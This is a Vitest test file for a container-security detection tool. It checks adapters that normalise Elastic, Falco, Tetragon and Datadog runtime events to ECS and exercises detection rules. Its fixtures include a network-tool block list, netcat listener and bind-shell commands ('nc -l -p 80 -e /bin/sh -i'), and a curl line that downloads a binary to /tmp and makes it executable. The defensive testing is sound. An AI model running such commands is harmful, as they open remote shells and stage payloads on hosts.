import { readFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { datadogAdapter } from "./datadog";
import { ecsAdapter } from "./ecs";
import { falcoAdapter } from "./falco";
import { tetragonAdapter } from "./tetragon";
import type { FormatAdapter } from "./types";

type Json = Record<string, unknown>;

const FIXTURES = path.join(import.meta.dirname, "../../../e2e/fixtures");

function fixture(name: string): Json[] {
  return readFileSync(path.join(FIXTURES, `${name}.ndjson`), "utf8")
    .split("\n")
    .filter((line) => line.trim() !== "")
    .map((line) => JSON.parse(line) as Json);
}

function convert(adapter: FormatAdapter, raw: Json): Json {
  const result = adapter.toEcs(raw);
  if (!result.ok) throw new Error(`${result.field ?? ""}: ${result.message}`);
  return result.event;
}

/** What the built-in rules look at, flattened for compact assertions. */
function ruleView(event: Json) {
  const e = event as {
    event?: { type?: string[]; action?: string };
    process?: { name?: string; executable?: string; args?: string[]; entry_leader?: { same_as_process?: boolean } };
    container?: { id?: string };
    keelwatch?: { process?: { ancestors?: { executable?: string[] } } };
  };
  return {
    type: e.event?.type,
    action: e.event?.action,
    name: e.process?.name,
    executable: e.process?.executable,
    args: e.process?.args,
    entryLeader: e.process?.entry_leader?.same_as_process,
    container: e.container?.id !== undefined,
    ancestors: e.keelwatch?.process?.ancestors?.executable,
  };
}

const NETWORK_TOOLS = new Set([
  "nc",
  "ncat",
  "nmap",
  "dig",
  "nslookup",
  "tcpdump",
  "tshark",
  "ngrep",
  "telnet",
  "socat",
]);

/** The intent of the two Elastic rules and the Datadog one, to check each fixture holds positives and negatives. */
function ruleHits(event: Json) {
  const view = ruleView(event);
  const start = view.type?.includes("start") ?? false;
  const inContainer = view.container;
  const networkTool =
    inContainer &&
    start &&
    (NETWORK_TOOLS.has(view.name ?? "") || (view.args ?? []).some((arg) => NETWORK_TOOLS.has(arg)));
  const shell =
    inContainer &&
    start &&
    (view.action === "exec" || view.action === "fork") &&
    view.entryLeader === false &&
    ((/\/.*sh$/.test(view.executable ?? "") && (view.args ?? []).some((arg) => arg === "-i" || arg === "-it")) ||
      (view.args ?? []).some((arg) => /\/.*sh$/.test(arg)));
  const writable = (file: string) => /^\/(tmp|var\/tmp|dev\/shm|run|home|root)\//.test(file);
  const fromWritable =
    inContainer &&
    start &&
    view.action === "exec" &&
    NETWORK_TOOLS.has(view.name ?? "") &&
    (writable(view.executable ?? "") || (view.ancestors ?? []).some(writable));
  return { networkTool, shell, fromWritable };
}

describe("ECS adapter (Elastic Defend for Containers)", () => {
  const raws = fixture("ecs-cloud-defend");

  it("accepts every fixture event and keeps it as given", () => {
    expect(raws.length).toBeGreaterThanOrEqual(8);
    for (const raw of raws) expect(convert(ecsAdapter, raw)).toEqual(raw);
  });

  it("holds positives for both Elastic rules and near misses", () => {
    const hits = raws.map((raw) => ruleHits(convert(ecsAdapter, raw)));
    expect(hits.filter((hit) => hit.networkTool).length).toBeGreaterThanOrEqual(3);
    expect(hits.filter((hit) => hit.shell).length).toBeGreaterThanOrEqual(2);
    expect(hits.filter((hit) => !hit.networkTool && !hit.shell).length).toBeGreaterThanOrEqual(5);
  });

  it("accepts dotted keys and normalizes the timestamp only", () => {
    const raw = {
      "@timestamp": 1711965862901,
      "event.category": "process",
      "process.name": "nc",
      "process.args": ["nc", "-l"],
      container: { "image.name": "nginx" },
    };
    expect(convert(ecsAdapter, raw)).toEqual({ ...raw, "@timestamp": "2024-04-01T10:04:22.901Z" });
  });

  it("takes the event out of an Elasticsearch hit's _source", () => {
    const hit = { _index: ".ds-logs-cloud_defend.process-default", _id: "x1", _source: raws[4] };
    expect(convert(ecsAdapter, hit)).toEqual(raws[4]);
    expect(ecsAdapter.detect(hit)).toBe(1);
  });

  it("refuses a missing or unreadable @timestamp", () => {
    expect(ecsAdapter.toEcs({ process: { name: "nc" } })).toEqual({
      ok: false,
      field: "@timestamp",
      message: expect.stringMatching(/missing/),
    });
    expect(ecsAdapter.toEcs({ "@timestamp": "soon" })).toMatchObject({ ok: false, field: "@timestamp" });
    expect(ecsAdapter.toEcs({ "@timestamp": true })).toMatchObject({ ok: false, field: "@timestamp" });
  });

  it("names the field with a wrong type", () => {
    const base = { "@timestamp": "2024-04-01T10:00:00Z" };
    const cases: [Json, string][] = [
      [{ process: { args: 42 } }, "process.args"],
      [{ process: { args: ["nc", 4444] } }, "process.args"],
      [{ process: "nc" }, "process"],
      [{ "process.name": { first: "nc" } }, "process.name"],
      [{ process: { pid: "abc" } }, "process.pid"],
      [{ process: { pid: 1.5 } }, "process.pid"],
      [{ process: { entry_leader: { same_as_process: "no" } } }, "process.entry_leader.same_as_process"],
      [{ process: { parent: { executable: ["/bin/sh", { x: 1 }] } } }, "process.parent.executable"],
      [{ container: { id: 12 } }, "container.id"],
      [{ event: { type: [{ start: true }] } }, "event.type"],
      [{ user: { id: { uid: 0 } } }, "user.id"],
    ];
    for (const [fields, field] of cases) {
      expect(ecsAdapter.toEcs({ ...base, ...fields }), JSON.stringify(fields)).toMatchObject({ ok: false, field });
    }
  });

  it("checks objects given as arrays of objects, element by element", () => {
    const base = { "@timestamp": "2024-04-01T10:00:00Z" };
    const previous = [{ args: ["sh"], executable: "/bin/sh" }, null];
    expect(ecsAdapter.toEcs({ ...base, process: { previous } }).ok).toBe(true);
    expect(ecsAdapter.toEcs({ ...base, process: { previous: [{ args: 5 }] } })).toMatchObject({
      ok: false,
      field: "process.previous.args",
    });
    expect(ecsAdapter.toEcs({ ...base, process: { previous: ["sh"] } })).toMatchObject({
      ok: false,
      field: "process.previous",
    });
  });

  it("finds wrong types behind dotted keys at any level", () => {
    const base = { "@timestamp": "2024-04-01T10:00:00Z" };
    expect(ecsAdapter.toEcs({ ...base, process: { pid: 3, "parent.pid": "x" } })).toMatchObject({
      ok: false,
      field: "process.parent.pid",
    });
    expect(ecsAdapter.toEcs({ ...base, "container.id": ["a", 1] })).toMatchObject({ ok: false, field: "container.id" });
    expect(ecsAdapter.toEcs({ ...base, "process.parent": { pid: 7 }, process: { name: "nc" } }).ok).toBe(true);
  });

  it("accepts what Elasticsearch would coerce or treat as absent", () => {
    const base = { "@timestamp": "2024-04-01T10:00:00Z" };
    for (const fields of [
      { process: { pid: "42", interactive: "true", args: "nc -l" } },
      { process: { name: null, args: ["nc", null] } },
      { user: { id: 0 } },
      { event: { category: "process", type: ["start"] } },
    ]) {
      expect(ecsAdapter.toEcs({ ...base, ...fields }).ok, JSON.stringify(fields)).toBe(true);
    }
  });
});

describe("Falco adapter", () => {
  const raws = fixture("falco");

  it("maps a Falco shell alert to ECS", () => {
    const shell = raws.find((raw) => raw.rule === "Run shell untrusted")!;
    expect(convert(falcoAdapter, shell)).toEqual({
      "@timestamp": "2024-04-01T10:04:11.208164935Z",
      event: {
        kind: "alert",
        category: ["process"],
        type: ["start"],
        action: "exec",
        module: "falco",
        dataset: "falco.alerts",
        provider: "syscall",
        original: shell.output,
        severity: 2,
        risk_score: 47,
      },
      message: shell.output,
      rule: { name: "Run shell untrusted" },
      log: { level: "notice" },
      falco: { priority: "Notice", source: "syscall", output_fields: shell.output_fields },
      tags: ["container", "maturity_stable", "mitre_execution", "shell", "T1059"],
      process: {
        name: "sh",
        executable: "/bin/sh",
        command_line: "sh -i",
        args: ["/bin/sh", "-i"],
        args_count: 2,
        pid: 22013,
        working_directory: "/app/",
        interactive: false,
        entry_leader: { same_as_process: false },
        parent: {
          pid: 2214,
          name: "node",
          executable: "/usr/local/bin/node",
          command_line: "node server.js",
          args: ["node", "server.js"],
        },
      },
      keelwatch: {
        process: {
          ancestors: { executable: ["/usr/local/bin/node"], name: ["node", "containerd-shim", "systemd"] },
        },
      },
      user: { name: "node", id: "1000" },
      container: {
        id: "3f1c2b9a7d6e",
        name: "web-frontend",
        image: { name: "registry.example.com/shop/web-frontend", tag: "2.14.1" },
      },
      orchestrator: {
        type: "kubernetes",
        namespace: "shop",
        resource: { name: "web-frontend-7d9f8b6c5-x2k4q", type: "pod" },
      },
      host: { name: "ip-10-0-12-34" },
    });
  });

  it("orders ancestors nearest first from proc.pname/pexepath and proc.aname[N]/aexepath[N]", () => {
    const nslookup = convert(falcoAdapter, raws.find((raw) => String(raw.output).includes("process=nslookup"))!);
    expect(nslookup.keelwatch).toEqual({
      process: {
        ancestors: {
          executable: ["/tmp/.cache/upd", "/bin/sh", "/usr/local/bin/node"],
          name: ["upd", "sh", "node"],
        },
      },
    });
  });

  it('treats container.id "host" as no container and a runtime parent as the entry leader', () => {
    const views = raws.map((raw) => ruleView(convert(falcoAdapter, raw)));
    const onHost = views.find((view) => !view.container && view.name === "nc");
    expect(onHost).toBeDefined();
    expect(onHost?.entryLeader).toBeUndefined();
    const kubectlExec = views.find((view) => view.executable === "/bin/bash" && view.container);
    expect(kubectlExec?.entryLeader).toBe(true);
  });

  it("keeps non-exec syscalls out of process starts", () => {
    const connect = convert(falcoAdapter, raws.find((raw) => String(raw.output).includes("C2"))!);
    expect(connect.event).toMatchObject({ category: ["network"], type: ["info"], action: "connect" });
  });

  it("holds positives for every built-in rule", () => {
    const hits = raws.map((raw) => ruleHits(convert(falcoAdapter, raw)));
    expect(hits.some((hit) => hit.networkTool)).toBe(true);
    expect(hits.some((hit) => hit.shell)).toBe(true);
    expect(hits.some((hit) => hit.fromWritable)).toBe(true);
    expect(hits.some((hit) => !hit.networkTool && !hit.shell && !hit.fromWritable)).toBe(true);
  });

  it("refuses an alert without output_fields or time", () => {
    expect(falcoAdapter.toEcs({ rule: "x", time: "2024-04-01T10:00:00Z" })).toMatchObject({
      ok: false,
      field: "output_fields",
    });
    expect(falcoAdapter.toEcs({ rule: "x", output_fields: { "proc.name": "nc" } })).toMatchObject({
      ok: false,
      field: "time",
    });
  });

  it("falls back to output_fields evt.time (nanoseconds) for the timestamp", () => {
    const event = convert(falcoAdapter, { output_fields: { "evt.time": 1711965862901442000, "proc.name": "nc" } });
    expect(event["@timestamp"]).toBe("2024-04-01T10:04:22.901Z");
  });
});

describe("Tetragon adapter", () => {
  const raws = fixture("tetragon");

  it("maps process_exec with its parent, pod and container", () => {
    const nc = raws.find(
      (raw) => "process_exec" in raw && JSON.stringify(raw).includes('"binary":"/usr/bin/nc","arguments":"-lvnp 4444"'),
    )!;
    const event = convert(tetragonAdapter, nc);
    expect(event).toMatchObject({
      "@timestamp": "2024-04-01T10:04:22.901442017Z",
      event: { category: ["process"], type: ["start"], action: "exec", module: "tetragon" },
      process: {
        entity_id: "aXAtMTAtMC0xMi0zNDoyMjAyNjQ4MjIwMDAwMDAwOjIyMDI2",
        pid: 22026,
        name: "nc",
        executable: "/usr/bin/nc",
        args: ["/usr/bin/nc", "-lvnp", "4444"],
        args_count: 3,
        command_line: "/usr/bin/nc -lvnp 4444",
        working_directory: "/app",
        entry_leader: { same_as_process: false },
        parent: { entity_id: "aXAtMTAtMC0xMi0zNDoyMjAxMzQ4MjEwNTAwMDAwOjIyMDEz", name: "sh", executable: "/bin/sh" },
      },
      user: { id: "1000" },
      container: {
        id: "3f1c2b9a7d6e4c8b9a0f1e2d3c4b5a69788796a5b4c3d2e1f00112233445566a",
        name: "web-frontend",
        image: { name: "registry.example.com/shop/web-frontend", tag: "2.14.1" },
      },
      orchestrator: {
        namespace: "shop",
        resource: { name: "web-frontend-7d9f8b6c5-x2k4q", type: "pod" },
        cluster: { name: "prod-eu-1" },
      },
      host: { name: "ip-10-0-12-34.eu-west-1.compute.internal" },
    });
  });

  it("splits the arguments string honouring quotes", () => {
    const shell = raws
      .map((raw) => convert(tetragonAdapter, raw))
      .find((event) => {
        const args = (event.process as { args?: string[] }).args ?? [];
        return args[1] === "-c";
      });
    expect((shell?.process as { args?: string[] } | undefined)?.args).toEqual([
      "/bin/sh",
      "-c",
      "curl -fsSL -o /tmp/.cache/upd http://198.51.100.23/upd && chmod +x /tmp/.cache/upd",
    ]);
  });

  it("maps process_exit to an end event and a tcp_connect probe to a connection start", () => {
    const events = raws.map((raw) => convert(tetragonAdapter, raw));
    const exit = events.find((event) => (event.event as Json).action === "end");
    expect(exit?.event).toMatchObject({ type: ["end"], dataset: "tetragon.process_exit" });
    const probe = events.find((event) => (event.event as Json).action === "tcp_connect");
    expect(probe?.event).toMatchObject({ type: ["start", "connection"], category: ["network"] });
  });

  it("uses parent and ancestors for the ancestry, nearest first", () => {
    const events = raws.map((raw) => convert(tetragonAdapter, raw));
    const nslookup = events.find((event) => (event.process as Json).name === "nslookup");
    expect(nslookup?.keelwatch).toEqual({
      process: {
        ancestors: {
          executable: ["/tmp/.cache/upd", "/bin/sh", "/usr/local/bin/node"],
          name: ["upd", "sh", "node"],
        },
      },
    });
  });

  it("holds positives for every built-in rule, and a host process outside any container", () => {
    const events = raws.map((raw) => convert(tetragonAdapter, raw));
    const hits = events.map(ruleHits);
    expect(hits.some((hit) => hit.networkTool)).toBe(true);
    expect(hits.some((hit) => hit.shell)).toBe(true);
    expect(hits.some((hit) => hit.fromWritable)).toBe(true);
    expect(events.some((event) => event.container === undefined)).toBe(true);
    const kubectlExec = events.map(ruleView).find((view) => view.executable === "/bin/bash");
    expect(kubectlExec?.entryLeader).toBe(true);
  });

  it("refuses other shapes with a clear message", () => {
    expect(tetragonAdapter.toEcs({ node_name: "n", time: "2024-04-01T10:00:00Z" })).toMatchObject({
      ok: false,
      message: expect.stringMatching(/not a Tetragon process event/),
    });
    expect(tetragonAdapter.toEcs({ process_exec: { process: { binary: "/bin/ls" } } })).toMatchObject({
      ok: false,
      field: "time",
    });
    expect(tetragonAdapter.toEcs({ process_exec: {}, time: "2024-04-01T10:00:00Z" })).toMatchObject({
      ok: false,
      field: "process_exec.process",
    });
  });
});

describe("Datadog CWS adapter", () => {
  const raws = fixture("datadog");

  it("makes an event sent for an agent rule a sensor alert carrying the rule and its policy", () => {
    const raw = raws[0]!;
    const withPolicy = {
      ...raw,
      agent: { ...(raw.agent as Json), rule_version: "3", policy_name: "datadog-managed", policy_version: "74" },
    };
    expect(convert(datadogAdapter, withPolicy)).toMatchObject({
      event: { kind: "alert" },
      rule: {
        id: "interactive_shell_in_container",
        name: "interactive_shell_in_container",
        version: "3",
        ruleset: "datadog-managed",
      },
      datadog: { policy_version: "74" },
      message: "Interactive shell started in container",
    });
    const { agent: _agent, ...withoutRule } = raw;
    const plain = convert(datadogAdapter, withoutRule);
    expect(plain).toMatchObject({ event: { kind: "event" } });
    expect(plain).not.toHaveProperty("rule");
  });

  it("maps an exec event with argv0, argv, ancestors, tags and container", () => {
    const nc = raws.find((raw) => JSON.stringify(raw.process).includes('"argv0":"nc"'))!;
    expect(convert(datadogAdapter, nc)).toMatchObject({
      "@timestamp": "2024-04-01T10:04:22.901Z",
      event: { category: ["process"], type: ["start"], action: "exec", module: "datadog", dataset: "datadog.cws" },
      rule: { id: "net_util_in_container" },
      process: {
        pid: 22026,
        name: "nc",
        executable: "/usr/bin/nc",
        args: ["nc", "-lvnp", "4444"],
        command_line: "nc -lvnp 4444",
        entry_leader: { same_as_process: false },
        parent: { pid: 22013, name: "sh", executable: "/bin/sh", args: ["/bin/sh", "-i"] },
      },
      keelwatch: {
        process: {
          ancestors: {
            executable: ["/bin/sh", "/usr/local/bin/node", "/usr/bin/containerd-shim-runc-v2"],
            name: ["sh", "node", "containerd-shim-runc-v2"],
          },
        },
      },
      user: { name: "node", id: "1000" },
      container: {
        id: "3f1c2b9a7d6e4c8b9a0f1e2d3c4b5a69788796a5b4c3d2e1f00112233445566a",
        name: "web-frontend",
        image: { name: "registry.example.com/shop/web-frontend", tag: "2.14.1" },
      },
      orchestrator: {
        namespace: "shop",
        resource: { name: "web-frontend-7d9f8b6c5-x2k4q" },
        cluster: { name: "prod-eu-1" },
      },
      host: { name: "ip-10-0-12-34.eu-west-1.compute.internal" },
    });
  });

  it("holds positives for every built-in rule, including a network tool under a /tmp ancestor", () => {
    const hits = raws.map((raw) => ruleHits(convert(datadogAdapter, raw)));
    expect(hits.some((hit) => hit.networkTool)).toBe(true);
    expect(hits.some((hit) => hit.shell)).toBe(true);
    expect(hits.filter((hit) => hit.fromWritable)).toHaveLength(1);
    expect(hits.filter((hit) => !hit.networkTool && !hit.shell).length).toBeGreaterThanOrEqual(4);
  });

  it("maps exit and non-process events without calling them starts", () => {
    const events = raws.map((raw) => convert(datadogAdapter, raw));
    expect(events.find((event) => (event.event as Json).action === "end")?.event).toMatchObject({ type: ["end"] });
    expect(events.find((event) => (event.event as Json).action === "open")?.event).toMatchObject({
      category: ["file"],
      type: ["info"],
    });
  });

  it("reads a string image, a host object and a numeric timestamp", () => {
    const event = convert(datadogAdapter, {
      timestamp: 1711965862901,
      evt: { category: "process", name: "exec" },
      process: { pid: 7, comm: "nc", argv: ["-l"], container: { id: "abc" } },
      container: { id: "abc", image: "docker.io/library/alpine:3.19" },
      host: { name: "node-1" },
    });
    expect(event).toMatchObject({
      "@timestamp": "2024-04-01T10:04:22.901Z",
      process: { name: "nc", args: ["nc", "-l"] },
      container: { id: "abc", image: { name: "docker.io/library/alpine", tag: "3.19" } },
      host: { name: "node-1" },
    });
  });

  it("takes the event out of Log Explorer and Logs API exports", () => {
    const nc = raws.find((raw) => JSON.stringify(raw.process).includes('"argv0":"nc"'))!;
    const { date, host, tags, ...attributes } = nc;
    const direct = convert(datadogAdapter, nc);
    const explorer = { id: "AQAAAY", content: { timestamp: date, host, tags, service: "web-frontend", attributes } };
    const api = { id: "AQAAAY", type: "log", attributes: { timestamp: date, host, tags, attributes } };
    for (const wrapped of [explorer, api]) {
      expect(datadogAdapter.detect(wrapped)).toBeGreaterThan(0.9);
      expect(convert(datadogAdapter, wrapped)).toEqual(direct);
    }
  });

  it("reads SECL-style argument strings too", () => {
    const event = convert(datadogAdapter, {
      date: "2024-04-01T10:00:00Z",
      evt: { category: "process", name: "exec" },
      process: { argv0: "nc", args: '-l -p 80 -e "/bin/sh -i"', executable: { path: "/usr/bin/nc" } },
    });
    expect((event.process as Json).args).toEqual(["nc", "-l", "-p", "80", "-e", "/bin/sh -i"]);
  });

  it("refuses events without evt or a date", () => {
    expect(datadogAdapter.toEcs({ date: "2024-04-01T10:00:00Z" })).toMatchObject({ ok: false, field: "evt" });
    expect(datadogAdapter.toEcs({ evt: { name: "exec" } })).toMatchObject({ ok: false, field: "timestamp" });
    expect(datadogAdapter.toEcs({ evt: { name: "exec" }, date: "later" })).toMatchObject({ ok: false, field: "date" });
  });
});
